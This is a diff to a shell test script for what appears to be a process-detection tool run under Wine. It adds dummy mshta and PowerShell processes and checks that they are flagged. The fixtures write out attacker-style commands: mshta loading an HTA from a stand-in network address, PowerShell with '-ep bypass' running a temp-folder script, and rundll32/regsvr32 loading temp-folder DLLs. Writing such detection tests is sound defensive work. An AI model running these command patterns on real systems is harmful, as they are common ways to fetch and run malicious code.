@@ -28,7 +28,7 @@ other=203.0.113.9
 ip address add $other/32 dev lo
 
 work=$(mktemp -d)
-export WINEPREFIX="$work/prefix" WINEDEBUG=-all WINEDLLOVERRIDES=mscoree,mshtml=
+export WINEPREFIX="$work/prefix" WINEDEBUG=-all WINEDLLOVERRIDES="mscoree,mshtml=;mshta.exe=n"
 others=
 trap 'wineserver -k 2>/dev/null || true; for it in $others; do kill "$it" 2>/dev/null || true; done; rm -rf "$work"' EXIT
 trap 'exit 1' INT TERM
@@ -117,6 +117,11 @@ cp "$work/library.dll" "$drive/windows/temp/"
 cat >"$drive/windows/temp/script.vbs" <<'SCRIPT'
 CreateObject("WScript.Shell").Run "rundll32 C:\windows\temp\library.dll,stay", 0, True
 SCRIPT
+# Wine's own mshta and powershell do nothing, and end.
+shell=$drive/windows/system32/WindowsPowerShell/v1.0
+mkdir -p "$shell"
+cp "$work/victim.exe" "$shell/powershell.exe"
+cp "$work/victim.exe" "$drive/windows/system32/mshta.exe"
 victims='C:\Program Files\victims'
 start injected "$victims\\honest.exe" 880 $other
 start patched "$victims\\honest.exe" 4721
@@ -126,6 +131,8 @@ start other "$victims\\svchost.exe" 4724
 start rundll rundll32 'C:\windows\temp\library.dll,stay'
 start regsvr regsvr32 /s 'C:\windows\temp\library.dll'
 start wscript wscript 'C:\windows\temp\script.vbs'
+start mshta mshta "http://$other/page.hta"
+start powershell 'C:\windows\system32\WindowsPowerShell\v1.0\powershell.exe' -ep bypass -File 'C:\windows\temp\script.ps1'
 start windowless 'C:\Program Files\Mozilla Firefox\firefox.exe' hidden
 injected=$(of injected 1)
 patched=$(of patched 1)
@@ -159,6 +166,8 @@ finds_not temporary_program "$(of other 1)" "a program called like svchost.exe"
 finds temporary_script "$(called rundll32.exe)" "rundll32 with a library of a temporary folder"
 finds temporary_script "$(called regsvr32.exe)" "regsvr32 with a library of a temporary folder"
 finds temporary_script "$(called wscript.exe)" "wscript with a script of a temporary folder"
+finds temporary_script "$(of mshta 1)" "mshta with a page of the net"
+finds temporary_script "$(of powershell 1)" "powershell with a script of a temporary folder"
 if [ -n "${DISPLAY:-}" ]; then
     finds no_window "$(of windowless 1)" "a browser without a window that talks"
     timeout 120 wine "$exe" list --processes --json >"$work/out" 2>/dev/null </dev/null
